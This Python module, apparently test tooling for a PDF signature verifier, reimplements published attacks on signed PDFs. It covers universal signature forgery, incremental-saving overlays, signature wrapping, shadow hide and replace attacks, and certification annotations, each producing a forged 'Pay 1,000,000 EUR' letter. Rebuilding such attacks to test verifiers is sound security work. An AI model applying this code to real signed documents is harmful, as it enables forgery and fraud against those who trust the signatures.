"""Published attacks on PDF signatures, rebuilt from signed demo documents.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019: universal signature forgery,
incremental saving, signature wrapping); Mainka et al., "Shadow Attacks" (NDSS 2021: hide,
replace, hide-and-replace); Mainka et al., "Breaking the Specification: PDF Certification"
(S&P 2021: evil annotations, sneaky signatures). Each function takes the bytes of a signed PDF
(or of a PDF to be signed, for the preparation steps) and returns the attacker's bytes.
"""

from __future__ import annotations

import re
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

EVIL = b"BT /F1 18 Tf 72 700 Td (Pay 1,000,000 EUR to Mallory) Tj ET"
HELVETICA = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
                                      pdf_name("/BaseFont"): pdf_name("/Helvetica")})


def _write(w: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    w.write(out)
    return out.getvalue()


def _first_page(w):
    ref = w.root["/Pages"]["/Kids"][0]
    return ref, ref.get_object()


def _form_xobject(w, data: bytes, box=(0, 0, 595, 842)):
    return w.add_object(generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject(generic.NumberObject(v) for v in box),
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/F1"): HELVETICA, pdf_name("/Helv"): HELVETICA})}),
    }, stream_data=data))


# --- universal signature forgery: raw edits of the signature dictionary ---------------------

def _sig_dict_span(pdf: bytes) -> tuple[int, int]:
    m = list(re.finditer(rb"/ByteRange\s*\[[^\]]*\]", pdf))[-1]
    return m.start(), m.end()


def _pad(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old)
    return new + b" " * (len(old) - len(new))


def usf_empty_contents(pdf: bytes) -> bytes:
    m = list(re.finditer(rb"/Contents\s*<([0-9a-fA-F]{200,})>", pdf))[-1]
    return pdf[:m.start()] + _pad(m.group(0), b"/Contents <>") + pdf[m.end():]


def usf_no_byte_range(pdf: bytes) -> bytes:
    start, end = _sig_dict_span(pdf)
    return pdf[:start] + _pad(pdf[start:end], b"") + pdf[end:]


def usf_zero_byte_range(pdf: bytes) -> bytes:
    start, end = _sig_dict_span(pdf)
    return pdf[:start] + _pad(pdf[start:end], b"/ByteRange [0 0 0 0]") + pdf[end:]


def usf_malformed_byte_range(pdf: bytes) -> bytes:
    start, end = _sig_dict_span(pdf)
    return pdf[:start] + _pad(pdf[start:end], b"/ByteRange [0 /All (x)]") + pdf[end:]


# --- incremental saving attacks --------------------------------------------------------------

def isa_page_content(pdf: bytes) -> bytes:
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    _, page = _first_page(w)
    page["/Contents"] = w.add_object(generic.StreamObject(stream_data=EVIL))
    w.update_container(page)
    return _write(w)


def _annotation(w, page_ref, subtype: str, rect, text: str):
    x1, y1, x2, y2 = rect
    ap = _form_xobject(w, b"1 1 1 rg 0 0 %d %d re f 0 0 0 rg BT /Helv 12 Tf 4 6 Td (%s) Tj ET"
                       % (x2 - x1, y2 - y1, text.encode()), box=(0, 0, x2 - x1, y2 - y1))
    return w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name(subtype),
        pdf_name("/Rect"): generic.ArrayObject(generic.NumberObject(v) for v in rect),
        pdf_name("/Contents"): pdf_string(text), pdf_name("/P"): page_ref, pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): ap}),
    }))


def isa_add_annotation(pdf: bytes, text: str = "Amount: 1,000,000 EUR") -> bytes:
    """A FreeText annotation whose opaque appearance covers a line of the letter."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    page_ref, page = _first_page(w)
    annot = _annotation(w, page_ref, "/FreeText", (60, 690, 540, 720), text)
    annots = page["/Annots"] if "/Annots" in page else generic.ArrayObject()
    annots.append(annot)
    page["/Annots"] = annots
    w.update_container(page)
    return _write(w)


def isa_overlay_xobject(pdf: bytes) -> bytes:
    """A new form XObject drawn over the page by an appended content stream."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    _, page = _first_page(w)
    overlay = _form_xobject(w, b"1 1 1 rg 60 690 480 40 re f 0 0 0 rg " + EVIL)
    resources = page["/Resources"]
    xobjects = resources["/XObject"] if "/XObject" in resources else generic.DictionaryObject()
    xobjects[pdf_name("/Ov")] = overlay
    resources[pdf_name("/XObject")] = xobjects
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"),
                                            w.add_object(generic.StreamObject(stream_data=b"q /Ov Do Q"))])
    w.update_container(page)
    return _write(w)


def with_text_field(pdf: bytes, name: str = "amount", value: str = "100 EUR") -> bytes:
    """Preparation: a letter with one filled-in text field (before signing)."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    page_ref, page = _first_page(w)
    field = w.add_object(generic.DictionaryObject({
        pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): pdf_string(name), pdf_name("/V"): pdf_string(value),
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/Rect"): generic.ArrayObject(generic.NumberObject(v) for v in (300, 600, 500, 620)),
        pdf_name("/P"): page_ref, pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _field_appearance(w, value)}),
    }))
    page[pdf_name("/Annots")] = generic.ArrayObject([field])
    w.update_container(page)
    w.root[pdf_name("/AcroForm")] = generic.DictionaryObject({
        pdf_name("/Fields"): generic.ArrayObject([field]), pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
        pdf_name("/DR"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/Helv"): HELVETICA})})})
    w.update_root()
    return _write(w)


def _field_appearance(w, value: str):
    return _form_xobject(w, b"/Tx BMC BT /Helv 12 Tf 2 5 Td (%s) Tj ET EMC" % value.encode(), box=(0, 0, 200, 20))


def isa_form_value(pdf: bytes, value: str = "1,000,000 EUR") -> bytes:
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    field = w.root["/AcroForm"]["/Fields"][0].get_object()
    field["/V"] = pdf_string(value)
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): _field_appearance(w, value)})
    w.update_container(field)
    return _write(w)


# --- signature wrapping ------------------------------------------------------------------------

def signature_wrapping(pdf: bytes) -> bytes:
    """Move the second signed part back, put a new page content in the gap, and point a rewritten
    signature dictionary (appended as a new revision) at the moved bytes."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    sig_ref = reader.root["/AcroForm"]["/Fields"][0].get_object().raw_get("/V").reference
    content_ref = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").reference
    offset = reader.xrefs[sig_ref]
    sig_bytes = pdf[offset:pdf.index(b"endobj", offset) + len(b"endobj")]
    start1, len1, start2, len2 = (int(v) for v in reader.get_object(sig_ref)["/ByteRange"])
    evil_obj = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        content_ref.idnum, len(EVIL), EVIL)
    moved = pdf[:start2] + evil_obj + pdf[start2:]
    shift = len(evil_obj)
    new_range = b"[%d %d %d %d]" % (start1, len1, start2 + shift, len2)
    new_sig = re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange " + new_range, sig_bytes, count=1)
    evil_at = start2 + 1
    sig_at = len(moved) + 1
    body = b"\n" + new_sig + b"\n"
    xref_at = len(moved) + len(body)
    old_xref = reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1) + shift
    last = reader.xrefs.total_revisions - 1
    moved_objects = {ref.idnum: reader.xrefs[ref] + shift for ref in reader.xrefs.explicit_refs_in_revision(last)
                     if isinstance(reader.xrefs[ref], int) and reader.xrefs[ref] >= start2}
    entries = sorted({**moved_objects, content_ref.idnum: evil_at, sig_ref.idnum: sig_at}.items())
    xref = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (num, at) for num, at in entries)
    root_ref = reader.trailer.raw_get("/Root").reference
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(reader.trailer["/Size"]), root_ref.idnum, old_xref, xref_at)
    return moved + body + xref + trailer


# --- shadow attacks: prepared before signing, switched after -------------------------------------

def shadow_prepare_hide(pdf: bytes) -> bytes:
    """An optional-content layer 'Cover', on, drawing the harmless text over the hidden one."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    _, page = _first_page(w)
    ocg = w.add_object(generic.DictionaryObject({pdf_name("/Type"): pdf_name("/OCG"),
                                                 pdf_name("/Name"): pdf_string("Cover")}))
    w.root[pdf_name("/OCProperties")] = generic.DictionaryObject({
        pdf_name("/OCGs"): generic.ArrayObject([ocg]),
        pdf_name("/D"): generic.DictionaryObject({pdf_name("/ON"): generic.ArrayObject([ocg]),
                                                  pdf_name("/OFF"): generic.ArrayObject()})})
    w.update_root()
    page["/Resources"][pdf_name("/Properties")] = generic.DictionaryObject({pdf_name("/Cover"): ocg})
    page["/Contents"] = generic.ArrayObject([
        w.add_object(generic.StreamObject(stream_data=EVIL)), page.raw_get("/Contents"),
        w.add_object(generic.StreamObject(stream_data=b"/OC /Cover BDC 1 1 1 rg 60 690 480 40 re f EMC"))])
    w.update_container(page)
    return _write(w)


def shadow_hide(pdf: bytes) -> bytes:
    """After signing: switch the cover layer off, so the hidden text shows."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    props = w.root["/OCProperties"]
    props["/D"] = generic.DictionaryObject({pdf_name("/ON"): generic.ArrayObject(),
                                            pdf_name("/OFF"): generic.ArrayObject([props.raw_get("/OCGs")[0]])})
    w.update_root()
    return _write(w)


def shadow_prepare_replace(pdf: bytes) -> bytes:
    """A form XObject /Fm0 drawn by the page, and an unused evil one, both signed."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    _, page = _first_page(w)
    benign = _form_xobject(w, b"BT /F1 12 Tf 72 650 Td (Amount: 100 EUR) Tj ET")
    evil = _form_xobject(w, b"BT /F1 12 Tf 72 650 Td (Amount: 1,000,000 EUR) Tj ET")
    w.root[pdf_name("/ImzaTestUnused")] = evil  # keeps it in the file, unused by any page
    w.update_root()
    page["/Resources"][pdf_name("/XObject")] = generic.DictionaryObject({pdf_name("/Fm0"): benign})
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"),
                                            w.add_object(generic.StreamObject(stream_data=b"q /Fm0 Do Q"))])
    w.update_container(page)
    return _write(w)


def shadow_replace(pdf: bytes) -> bytes:
    """After signing: point /Fm0 at the prepared evil drawing."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    _, page = _first_page(w)
    page["/Resources"]["/XObject"][pdf_name("/Fm0")] = w.root.raw_get("/ImzaTestUnused")
    w.update_container(page)
    return _write(w)


def shadow_prepare_hide_and_replace(pdf: bytes) -> bytes:
    """A whole second page tree with the evil letter, unused at signing time."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    _, page = _first_page(w)
    evil_page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): page["/MediaBox"],
        pdf_name("/Resources"): page["/Resources"],
        pdf_name("/Contents"): w.add_object(generic.StreamObject(stream_data=EVIL))})
    evil_page_ref = w.add_object(evil_page)
    evil_tree = w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Kids"): generic.ArrayObject([evil_page_ref]),
        pdf_name("/Count"): generic.NumberObject(1)}))
    evil_page[pdf_name("/Parent")] = evil_tree
    w.root[pdf_name("/ImzaTestUnused")] = evil_tree
    w.update_root()
    return _write(w)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """After signing: the catalog's /Pages now names the prepared page tree."""
    w = IncrementalPdfFileWriter(BytesIO(pdf))
    w.root[pdf_name("/Pages")] = w.root.raw_get("/ImzaTestUnused")
    w.update_root()
    return _write(w)


# --- certification attacks ----------------------------------------------------------------------

def evil_annotation(pdf: bytes) -> bytes:
    """On a certified document (P=2): an annotation that covers the amount."""
    return isa_add_annotation(pdf, "Amount: 1,000,000 EUR")
